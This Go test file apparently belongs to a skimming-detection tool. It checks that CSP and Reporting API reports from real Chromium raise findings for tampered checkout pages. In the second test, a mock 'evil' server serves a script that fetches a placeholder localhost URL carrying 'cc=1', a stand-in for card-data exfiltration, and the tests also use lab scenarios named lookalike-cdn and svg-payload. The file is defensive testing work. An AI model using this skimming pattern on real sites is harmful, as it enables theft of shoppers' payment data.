package collector_test

import (
	"context"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/skimwatch/skimwatch/internal/check/browser"
	"github.com/skimwatch/skimwatch/internal/check/browser/browsertest"
	"github.com/skimwatch/skimwatch/internal/collector"
	"github.com/skimwatch/skimwatch/internal/finding"
	"github.com/skimwatch/skimwatch/internal/lab"
	"github.com/skimwatch/skimwatch/internal/store"
	"github.com/skimwatch/skimwatch/internal/store/sqlite"
	"github.com/skimwatch/skimwatch/internal/testsupport"
)

// TestLabFindingsFromChromiumReports loads tampered lab pages in real
// Chromium, with the lab's Report-Only CSP pointing at the collector, and
// checks that findings are raised from the browser's own reports.
func TestLabFindingsFromChromiumReports(t *testing.T) {
	_, err := browser.FindChromium("")
	testsupport.Need(t, "Chromium", err)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()

	db, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "s.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	const key = "lab-site-key-0123456789abcdef"
	c, err := collector.New(db, collector.Options{Sites: []collector.Site{{Name: "lab", Key: key}}, FlushInterval: 50 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srvCtx, stopSrv := context.WithCancel(ctx)
	served := make(chan error, 1)
	go func() { served <- c.Serve(srvCtx, ln, nil, collector.ServerTimeouts{}) }()
	// Shutdown order: collector (final flush) before the store closes.
	defer func() {
		stopSrv()
		if err := <-served; err != nil {
			t.Error(err)
		}
	}()

	l, err := lab.Start(ctx, lab.Options{ReportURI: "http://" + ln.Addr().String() + "/r/" + key})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	// The shop's own origin is approved, as a baseline would approve it.
	// and the shop's origin is the site's own, as an operator approves it
	// (the collector reads it at its next flush).
	for _, a := range []store.ApprovedSource{
		{Site: "lab", Directive: "script-src", Value: l.ShopURL(), Origin: store.OriginBaseline},
		{Site: "lab", Directive: store.DirectiveSiteOrigin, Value: l.ShopURL(), Origin: store.OriginManual},
	} {
		if err := db.ApproveSource(ctx, a); err != nil {
			t.Fatal(err)
		}
	}

	b, err := browser.Launch(ctx, browser.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()

	// Control: the clean shop raises none of the findings checked below.
	if err := l.SetScenario("clean"); err != nil {
		t.Fatal(err)
	}
	browsertest.Visit(t, ctx, b, l.ShopURL()+"/checkout/token")
	// visit waited for reports to be sent; now wait until every accepted
	// one is in the store and a finding pass has run.
	for s := c.Stats(); (s.Persisted != s.Accepted || s.QueueDepth > 0) && ctx.Err() == nil; s = c.Stats() {
		time.Sleep(20 * time.Millisecond)
	}
	t.Logf("clean shop: %+v", c.Stats())
	// A flush persists its reports before it evaluates them, and flushes run
	// one after another: once a report of the shop's own approved script,
	// sent now, is persisted, the flush that held the clean shop's reports
	// has finished its finding pass.
	before := c.Stats().Persisted
	marker := `{"csp-report":{"document-uri":"` + l.ShopURL() + `/checkout/token","effective-directive":"script-src-elem",` +
		`"blocked-uri":"` + l.ShopURL() + `/marker.js","disposition":"report"}}`
	resp, err := http.Post("http://"+ln.Addr().String()+"/r/"+key, "application/csp-report", strings.NewReader(marker))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode/100 != 2 {
		t.Fatalf("the marker report was answered %s", resp.Status)
	}
	for c.Stats().Persisted <= before {
		if ctx.Err() != nil {
			t.Fatalf("the marker report was not persisted: %+v", c.Stats())
		}
		time.Sleep(20 * time.Millisecond)
	}
	// The control must be able to fail: a query error is a failure, not
	// "no findings".
	fs, err := db.Findings(ctx, store.FindingQuery{Site: "lab"})
	if err != nil {
		t.Fatalf("reading the clean shop's findings: %v", err)
	}
	for _, f := range fs {
		t.Errorf("clean shop raised %s: %s", f.Kind, f.Message)
	}

	scenarios := []struct {
		name, page, kind, blocked string
	}{
		{"lookalike-cdn", "/checkout/token", "csp.unapproved-script", l.CDNOrigin()},
		{"svg-payload", "/checkout/token", "csp.eval", "eval"},
	}
	for _, sc := range scenarios {
		if err := l.SetScenario(sc.name); err != nil {
			t.Fatal(err)
		}
		browsertest.Visit(t, ctx, b, l.ShopURL()+sc.page)
		t.Run("chromium's reports of "+sc.name+" raise "+sc.kind, func(t *testing.T) {
			var got *store.StoredFinding
			deadline := time.Now().Add(30 * time.Second)
			for got == nil && time.Now().Before(deadline) {
				fs, err := db.Findings(ctx, store.FindingQuery{Site: "lab"})
				if err != nil {
					t.Fatal(err)
				}
				for i, f := range fs {
					if f.Kind == sc.kind && f.Evidence["blocked"] == sc.blocked {
						got = &fs[i]
					}
				}
				time.Sleep(50 * time.Millisecond)
			}
			if got == nil {
				t.Fatalf("no %s finding for %s; collector stats %+v", sc.kind, sc.blocked, c.Stats())
			}
			// One browser is one client: raised, but as single-source.
			if got.Severity != finding.Medium || got.Evidence["single_source"] != true || got.Source != "collector" {
				t.Errorf("got %s single_source=%v", got.Severity, got.Evidence["single_source"])
			}
			samples, _ := got.Evidence["sample_reports"].([]any)
			if len(samples) == 0 || !strings.HasPrefix(samples[0].(map[string]any)["document_url"].(string), l.ShopURL()) {
				t.Errorf("evidence lacks the browser's report: %v", got.Evidence)
			}
		})
	}
	if s := c.Stats(); s.Accepted == 0 || s.TotalRejected() != 0 {
		t.Errorf("stats %+v: want reports accepted and none rejected", s)
	}
}

// TestReportingAPIFromChromium checks the Reporting API path end to end:
// an https page with Reporting-Endpoints and report-to, real Chromium (which
// sends report-to reports only between https origins, after a CORS
// preflight), and the collector behind TLS.
func TestReportingAPIFromChromium(t *testing.T) {
	_, err := browser.FindChromium("")
	testsupport.Need(t, "Chromium", err)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	db, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "s.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	const key = "api-site-key-0123456789abcdef"
	c, err := collector.New(db, collector.Options{Sites: []collector.Site{{Name: "shop", Key: key}}, FlushInterval: 50 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	runCtx, stopRun := context.WithCancel(ctx)
	ran := make(chan error, 1)
	go func() { ran <- c.Run(runCtx) }()
	var preflights atomic.Int64
	coll := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodOptions {
			preflights.Add(1)
		}
		c.Handler().ServeHTTP(w, r)
	}))
	defer func() {
		coll.Close() // handlers done before the aggregator's final flush
		stopRun()
		if err := <-ran; err != nil {
			t.Error(err)
		}
	}()
	endpoint := coll.URL + "/r/" + key
	evil := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		w.Write([]byte("fetch('" + "https://localhost:1/c?cc=1').catch(() => 0);"))
	}))
	defer evil.Close()
	shop := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Reporting-Endpoints", `skimwatch="`+endpoint+`"`)
		w.Header().Set("Content-Security-Policy-Report-Only", "default-src 'self'; script-src 'self'; report-to skimwatch")
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte(`<html><body><script src="` + evil.URL + `/lib.js"></script></body></html>`))
	}))
	defer shop.Close()
	if err := db.ApproveSource(ctx, store.ApprovedSource{Site: "shop", Directive: store.DirectiveSiteOrigin, Value: shop.URL, Origin: store.OriginManual}); err != nil {
		t.Fatal(err)
	}

	b, err := browser.Launch(ctx, browser.Options{ExtraFlags: []string{"--ignore-certificate-errors", "--short-reporting-delay"}})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	browsertest.Visit(t, ctx, b, shop.URL+"/checkout?token=secret")

	var got *store.StoredFinding
	for deadline := time.Now().Add(30 * time.Second); got == nil && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		fs, err := db.Findings(ctx, store.FindingQuery{Site: "shop"})
		if err != nil {
			t.Fatal(err)
		}
		for i, f := range fs {
			if f.Kind == "csp.unapproved-script" && f.Evidence["blocked"] == evil.URL {
				got = &fs[i]
			}
		}
	}
	if got == nil {
		t.Fatalf("no finding from the Reporting API; stats %+v, preflights %d", c.Stats(), preflights.Load())
	}
	// The reports were checked against the site's approved origin.
	if own, _ := got.Evidence["site_origins"].([]any); len(own) != 1 || own[0] != shop.URL {
		t.Errorf("site_origins %v, want [%s]: the report's document was not checked", got.Evidence["site_origins"], shop.URL)
	}
	sample := got.Evidence["sample_reports"].([]any)[0].(map[string]any)
	if sample["format"] != "reports+json" || strings.Contains(sample["document_url"].(string), "secret") {
		t.Errorf("sample %v: want the reports+json format and no query", sample)
	}
	t.Logf("finding from Chromium's Reporting API batch: %s (preflights %d)", got.Message, preflights.Load())
}
